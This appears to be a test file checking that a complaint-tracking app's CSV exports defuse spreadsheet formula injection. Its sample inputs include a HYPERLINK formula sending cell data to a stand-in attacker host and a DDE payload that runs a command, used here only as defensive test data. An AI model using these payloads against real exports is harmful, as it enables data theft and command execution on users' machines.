// Formula safety (issue 14, item 5): complaint texts that a spreadsheet would run as a formula come out
// of every CSV export with a leading apostrophe (Excel and WPS show them as text).
import { expect } from 'chai';
import { toCsv } from '../../server/analytics/csv.js';
import { csvCell } from '../../server/http/csv.js';
import type { DemoWorld } from '../../server/seed/registry.js';
import { filing, fileVia } from '../helpers/complaints.js';
import { DEMO, signedIn, type ApiClient } from '../helpers/http.js';
import { freshWorld, startTestServer, type TestServer } from '../helpers/server.js';

const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)'];

/** The cells of a CSV text (quoted cells may hold commas, quotes and line breaks). */
function cells(csv: string): string[] {
  const out: string[] = [];
  const re = /(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^,\r\n]*))/g;
  for (const m of csv.replace(/^\uFEFF/, '').matchAll(re)) out.push(m[1] !== undefined ? m[1].replace(/""/g, '"') : m[2]!);
  return out;
}

describe('CSV exports neutralise formulas', () => {
  let srv: TestServer;
  let world: DemoWorld;
  let regulator: ApiClient;

  before(async () => {
    world = await freshWorld();
    srv = await startTestServer();
    const consumer = await signedIn(srv.url, DEMO.consumer);
    for (const name of FORMULAS) {
      const f = filing(world);
      await fileVia(consumer, { ...f, product: { ...f.product, name, gtin: undefined, brand: name.slice(0, 20) }, description: name });
    }
    regulator = await signedIn(srv.url, DEMO.regulatorZj);
  });
  after(() => srv.stop());

  it('prefixes every formula-like complaint text in the complaint export', async () => {
    const r = await regulator.get('/complaints/export.csv');
    expect(r.status).to.equal(200);
    const all = cells(r.text);
    for (const f of FORMULAS) {
      expect(all, f).to.include(`'${f}`);
      expect(all, f).to.not.include(f);
    }
    expect(all.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d+(\.\d+)?$/.test(c))).to.deep.equal([]);
  });

  it('prefixes them in the figures export too (its rows go through the same writer)', () => {
    const all = cells(toCsv(FORMULAS.map((name, i) => ({ name, count: i - 1 }))));
    expect(all).to.include.members(FORMULAS.map((f) => `'${f}`));
    expect(all.filter((c) => FORMULAS.includes(c))).to.deep.equal([]);
    expect(all).to.include.members(['-1', '0', '1']);
  });

  it('treats a leading tab or carriage return like a formula, and leaves plain numbers alone', () => {
    expect(csvCell('\t=1+1')).to.equal(`"'\t=1+1"`);
    expect(csvCell('\r=1+1')).to.equal(`"'\r=1+1"`);
    expect(csvCell(-12.5)).to.equal('-12.5');
    expect(csvCell('-12.5')).to.equal('-12.5');
    expect(csvCell('a,"b"')).to.equal('"a,""b"""');
  });
});
